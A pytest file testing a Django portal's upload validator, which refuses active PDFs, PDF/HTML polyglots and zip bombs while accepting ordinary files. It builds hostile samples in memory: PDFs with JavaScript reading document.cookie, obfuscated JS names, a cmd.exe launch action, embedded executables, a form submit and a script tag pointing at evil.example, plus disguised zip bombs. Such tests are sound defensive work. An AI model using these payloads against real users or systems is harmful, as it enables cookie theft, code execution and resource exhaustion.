"""Uploads: active PDFs, PDF/HTML polyglots and zip bombs (also disguised as docx/xlsx) are refused by the
one upload check; ordinary files still pass. Every file is built in memory."""

import io
import os
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from applications.demo import tiny_pdf
from pilotbase.uploads import upload_check


def _check(name: str, content: bytes, allowed=("pdf",), max_size_mb: int = 20):
    return upload_check(uploaded_file=SimpleUploadedFile(name, content), allowed=list(allowed),
                        max_size_mb=max_size_mb)


def _refused(name: str, content: bytes, allowed=("pdf",)) -> ValidationError:
    with pytest.raises(ValidationError) as exc:
        _check(name, content, allowed)
    return exc.value


def _pdf(*objects: bytes, catalog_extra: bytes = b"") -> bytes:
    """A PDF with a catalog (object 1, plus `catalog_extra`), one page, and the given extra objects (6, 7 …)."""
    body = [b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length 11 >>\nstream\nBT 0 Tj ET\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", *objects]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    for i, obj in enumerate(body, start=1):
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    return bytes(out + b"trailer\n<< /Size %d /Root 1 0 R >>\n%%%%EOF\n" % (len(body) + 1))


def _objstm(*dicts: bytes, first_number: int = 10, filters: bytes = b"/Filter /FlateDecode") -> bytes:
    """An object stream (PDF 1.5) holding `dicts` compressed, as a real producer writes it."""
    offsets, payload = [], b""
    for i, d in enumerate(dicts):
        offsets.append(b"%d %d" % (first_number + i, len(payload)))
        payload += d + b"\n"
    head = b" ".join(offsets) + b"\n"
    data = zlib.compress(head + payload)
    return (b"<< /Type /ObjStm /N %d /First %d %s /Length %d >>\nstream\n" % (len(dicts), len(head), filters, len(data))
            + data + b"\nendstream")


JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"


def test_plain_pdf_accepted():
    assert _check("报告.pdf", tiny_pdf("ok")).extension == "pdf"


def test_pdf_opening_at_a_page_is_not_active_content():
    assert _check("a.pdf", _pdf(catalog_extra=b"/OpenAction [3 0 R /Fit] /PageMode /UseOutlines")).extension == "pdf"


def test_pdf_with_random_image_data_accepted():
    """Three random bytes of an image could read /JS: stream data is not scanned for the short names."""
    data = os.urandom(4 * 1024 * 1024).replace(b"endstream", b"endstreaX") + b"/JS /AA>/JS\n"  # planted too
    image = b"<< /Type /XObject /Subtype /Image /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
    assert _check("scan.pdf", _pdf(image)).extension == "pdf"


def test_pdf_rendered_by_weasyprint_accepted():
    """What office tools and the portal itself produce: compressed object streams (PDF 1.5+), fonts."""
    from weasyprint import HTML

    pdf = HTML(string="<h1>广西科技成果转化中试研究基地</h1>" + "<p>申报书正文</p>" * 200).write_pdf()
    assert b"/ObjStm" in pdf
    assert _check("申报书.pdf", pdf).extension == "pdf"


def test_pdf_with_attachment_written_by_pypdf_refused():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("setup.exe", b"MZ\x90\0")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert _refused("a.pdf", buffer.getvalue()).code == "pdf_active"


@pytest.mark.django_db
def test_attachment_with_script_refused_and_not_stored(applicant):
    from applications import services
    from tests import factories as f

    app = f.ApplicationFactory(call=f.CallFactory(), applicant=applicant.organization)
    requirement = app.call.required_attachments.get(code="feasibility")
    with pytest.raises(ValidationError):
        services.attachment_add(application=app, requirement=requirement, actor=applicant,
                                uploaded_file=SimpleUploadedFile("可行性研究报告.pdf", _pdf(catalog_extra=b"/OpenAction " + JS_ACTION)))
    assert app.attachments.count() == 0


def test_pdf_with_compressed_object_stream_accepted_when_harmless():
    harmless = _objstm(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://kjt.gxzf.gov.cn/) >> >>")
    assert _check("a.pdf", _pdf(harmless)).extension == "pdf"


@pytest.mark.parametrize(("content", "names"), [
    (_pdf(catalog_extra=b"/OpenAction " + JS_ACTION), "/JS, /JavaScript"),
    (_pdf(JS_ACTION, catalog_extra=b"/OpenAction 6 0 R"), "/JS, /JavaScript"),
    (_pdf(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), "/JS, /JavaScript"),
    (_pdf(JS_ACTION, catalog_extra=b"/Names << /JavaScript << /Names [(x) 6 0 R] >> >>"), "/JS, /JavaScript"),
    (_pdf(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "/Launch"),
    (_pdf(b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\0\nendstream",
          catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) << /EF << /F 6 0 R >> >>] >> >>"),
     "/EmbeddedFile, /EmbeddedFiles"),
    (_pdf(catalog_extra=b"/AA << /WC << /S /SubmitForm /F (http://evil.example/) >> >>"), "/AA"),
    (_pdf(_objstm(JS_ACTION), catalog_extra=b"/OpenAction 10 0 R"), "/JS, /JavaScript"),
])
def test_pdf_with_active_content_refused(content, names):
    error = _refused("report.pdf", content)
    assert error.code == "pdf_active"
    assert error.messages == [f"文件“report.pdf”含有脚本、自动执行的动作或内嵌文件（{names}），可能危害审阅者的电脑，不能上传。"
                              "请用“打印为 PDF”或“另存为”重新生成后再上传。"]


def test_pdf_object_stream_hidden_behind_another_filter_refused_as_uncheckable():
    hidden = _objstm(JS_ACTION, filters=b"/Filter [/ASCIIHexDecode /FlateDecode]")
    assert _refused("report.pdf", _pdf(hidden)).code == "pdf_unreadable"


def test_pdf_object_stream_that_is_not_zlib_refused_as_uncheckable():
    broken = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 8 >>\nstream\nRC4data!\nendstream"
    assert _refused("report.pdf", _pdf(broken)).code == "pdf_unreadable"


def test_pdf_html_polyglot_refused():
    polyglot = tiny_pdf("x").replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<html><script>alert(1)</script></html>\n", 1)
    error = _refused("report.pdf", polyglot)
    assert error.code == "polyglot"
    assert error.messages == ["文件“report.pdf”中含有网页代码（HTML/脚本），不能作为附件上传。请重新导出或扫描后上传。"]


def test_polyglot_check_applies_to_images_too():
    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 20 + b"<SCRIPT src=//evil.example/x.js>"
    assert _refused("photo.png", png, allowed=["png"]).code == "polyglot"


# --- archives ------------------------------------------------------------------------------------------

def _zip(members: dict[str, bytes | int]) -> bytes:
    """`members`: name → content, or name → a count of zero bytes streamed in (never held in memory)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            if isinstance(content, int):
                with archive.open(name, "w", force_zip64=True) as member:
                    chunk = bytes(1024 * 1024)
                    for _ in range(content // len(chunk)):
                        member.write(chunk)
            else:
                archive.writestr(name, content)
    return buffer.getvalue()


@pytest.fixture(scope="session")
def bomb_members(tmp_path_factory):
    """200 MB of zeros compressed (~200 KB), written once for the session."""
    path = tmp_path_factory.mktemp("bombs") / "zeros.zip"
    path.write_bytes(_zip({"payload": 200 * 1024 * 1024}))
    return path


def _bomb(bomb_members, first: str) -> bytes:
    """The session's bomb with its member renamed, so the file reads as docx (word/…), xlsx (xl/…) or zip."""
    with zipfile.ZipFile(bomb_members) as source:
        info = source.infolist()[0]
        raw = bomb_members.read_bytes()
    name = first.encode()
    # Rename in the local header and the central directory: same length keeps every offset valid.
    assert len(name) == len(info.filename)
    return raw.replace(info.filename.encode(), name)


@pytest.mark.parametrize(("name", "member", "allowed"), [
    ("可行性研究报告.docx", "word/dd", "docx"),
    ("财务数据.xlsx", "xl/she1", "xlsx"),
    ("照片.zip", "photos1", "zip"),
])
def test_zip_bomb_refused_whatever_it_is_called(bomb_members, name, member, allowed):
    bomb = _bomb(bomb_members, member)
    assert len(bomb) < 1024 * 1024
    error = _refused(name, bomb, allowed=[allowed])
    assert error.code == "archive_too_big"
    assert error.messages[0].startswith(f"文件“{name}”解压后约 200 MB（1 个文件），超过了 100 MB 的上限或压缩比异常")


def test_archive_with_absurd_ratio_refused_under_the_total_limit():
    bomb = _zip({"word/document.xml": 20 * 1024 * 1024})
    assert _refused("a.docx", bomb, allowed=["docx"]).code == "archive_too_big"


def test_archive_over_the_total_limit_refused(settings):
    settings.PILOTBASE_ARCHIVE_MAX_MB = 1
    archive = _zip({"photo1.jpg": os.urandom(700 * 1024), "photo2.jpg": os.urandom(700 * 1024)})
    assert _refused("photos.zip", archive, allowed=["zip"]).code == "archive_too_big"


def test_archive_whose_entries_share_data_refused():
    """Overlapping entries (many directory records pointing at one member) declare more than the file holds."""
    raw = _zip({"photo1.jpg": os.urandom(64 * 1024)})
    end = raw.rindex(b"PK\x05\x06")
    central = raw.rindex(b"PK\x01\x02")
    record = raw[central:end]
    copies = 20
    eocd = bytearray(raw[end:])
    eocd[8:10] = eocd[10:12] = copies.to_bytes(2, "little")
    eocd[12:16] = (len(record) * copies).to_bytes(4, "little")
    overlapping = raw[:central] + record * copies + bytes(eocd)
    assert len(zipfile.ZipFile(io.BytesIO(overlapping)).infolist()) == copies
    assert _refused("photos.zip", overlapping, allowed=["zip"]).code == "archive_too_big"


def test_broken_archive_refused():
    archive = _zip({"word/document.xml": b"<w:document/>" * 100})
    truncated = archive[: len(archive) // 2]
    assert _refused("a.docx", truncated, allowed=["docx"]).code == "archive_broken"


def test_real_xlsx_accepted():
    from openpyxl import Workbook

    workbook = Workbook()
    for row in range(2000):
        workbook.active.append([f"广西中试基地{row}", row * 1.5, "南宁市"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert _check("数据.xlsx", buffer.getvalue(), allowed=["xlsx"]).extension == "xlsx"


def test_ordinary_docx_accepted():
    document = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": "<w:p>中试基地建设方案</w:p>".encode() * 5000})
    assert _check("方案.docx", document, allowed=["docx"]).extension == "docx"
